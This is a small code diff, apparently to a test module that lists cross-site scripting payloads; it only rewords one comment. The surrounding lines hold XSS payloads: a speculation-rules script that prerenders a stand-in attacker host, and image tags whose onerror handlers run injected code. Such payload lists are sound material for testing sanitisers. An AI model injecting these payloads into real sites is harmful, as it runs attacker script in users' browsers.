@@ -25,7 +25,7 @@ export const SCRIPTS = payloads('script', {
   'speculation rules': `<script type="speculationrules">{"prerender":[{"urls":["${EVIL}/"]}]}</script>`,
 });
 
-/** Elements whose handlers run by themselves. */
+/** Elements whose handlers run on their own. */
 export const HANDLERS = payloads('handler', {
   'an image that fails': `<img src=x onerror=${RUN}>`,
   'an image in quotes': `<img src="x" onerror="${RUN}">`,
